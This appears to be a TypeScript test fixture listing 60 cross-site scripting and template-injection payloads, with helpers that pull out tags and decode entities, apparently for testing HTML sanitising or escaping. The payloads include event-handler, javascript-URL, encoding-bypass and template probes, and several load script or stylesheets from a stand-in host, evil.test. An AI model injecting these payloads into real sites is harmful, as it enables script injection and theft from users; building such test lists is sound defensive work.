/** 60 texts that do something wherever they are taken for markup, or for more than one line. */
export const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src="//evil.test/x.js"></script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  "<img src='x' onerror='alert(1)'>",
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=javascript:alert(1)>x',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '"/><img src=x onerror=alert(1)>',
  '</p><script>alert(1)</script><p>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  ']]><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus=alert(1) x="',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&amp;lt;script&amp;gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
  '\\u003cscript\\u003ealert(1)',
  '<math><mtext></table></math><img src onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="//evil.test/x.css">',
  '<base href="//evil.test/">',
  '<style>@import "//evil.test/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">',
  '<table background="javascript:alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '{{constructor.constructor("alert(1)")()}}',
  '{{.Code}} {{.UserID}} {{7*7}}',
  '$\u007b7*7} #{7*7} <%=7*7%>',
  '<x onclick=alert(1) <script>',
  '< script >alert(1)</ script >',
  '＜script＞alert(1)＜/script＞',
];

/** The tags of a text, as a browser would see them: everything between an opening bracket and the next closing one. */
export function tagsOf(html: string): string[] {
  return html.match(/<[^>]*>?/g) ?? [];
}

/** What a browser shows of a text without tags. */
export function shownText(html: string): string {
  const entities: Readonly<Record<string, string>> = { amp: '&', lt: '<', gt: '>', quot: '"', '#39': "'" };
  return html.replaceAll(/&(amp|lt|gt|quot|#39);/g, (_match, name: string) => entities[name] ?? '');
}
